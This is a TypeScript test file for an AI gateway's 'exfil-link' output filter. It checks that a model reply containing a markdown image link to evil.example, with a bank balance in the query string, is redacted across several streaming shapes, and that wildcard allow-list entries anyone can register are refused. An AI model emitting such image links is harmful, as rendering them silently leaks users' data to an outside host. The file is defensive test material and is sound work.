import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { type Upstream, startUpstream } from '../upstream/start-upstream.ts';
import { WAYS, ask, readable } from './ask.ts';
import { type TestGateway, startGateway } from './start-gateway.ts';

const SAID =
  'Your chart: ![chart](https://evil.example/c.png?d=balance-1200) and ![logo](https://cdn.bank.example/l.png), see https://docs.example.org/a.';
const hidden = Buffer.from(SAID).toString('base64');

describe('an image that would take data out', () => {
  let upstream: Upstream;
  let gateway: TestGateway;
  before(async () => {
    upstream = await startUpstream();
    gateway = await startGateway({
      upstreamUrl: upstream.url,
      config: {
        rules: [
          {
            id: 'links',
            detector: 'exfil-link',
            action: 'redact',
            on: ['output'],
            options: { allow: ['*.bank.example'] },
          },
        ],
      },
    });
  });
  after(async () => {
    await gateway.close();
    await upstream.close();
  });

  for (const way of WAYS) {
    for (const shape of ['', '+chars=1', '+chars=3+split=1', '+chars=9+split=13+crlf', '+chars=1000+split=all']) {
      it(`${way.surface}, ${shape === '' ? 'whole' : `stream${shape}`}`, async () => {
        const stream = shape !== '';
        const answer = await ask(gateway, way, `decode${shape}`, hidden, { stream });
        assert.equal(answer.status, 200, answer.text);
        const read = readable(answer.text, stream);
        assert.ok(
          read.includes(
            'Your chart: ![chart]([LINK]) and ![logo](https://cdn.bank.example/l.png), see https://docs.example.org/a.',
          ),
          read,
        );
        for (const word of ['evil', 'balance', '1200']) assert.ok(!answer.text.includes(word), `${word} left`);
      });
    }
  }

  it('is refused as an entry when anybody could register it', async () => {
    const rules = [
      {
        id: 'links',
        detector: 'exfil-link',
        action: 'redact' as const,
        on: ['output' as const],
        options: { allow: ['*.co.uk'] },
      },
    ];
    await assert.rejects(startGateway({ upstreamUrl: upstream.url, config: { rules } }), /anybody can register/);
  });
});
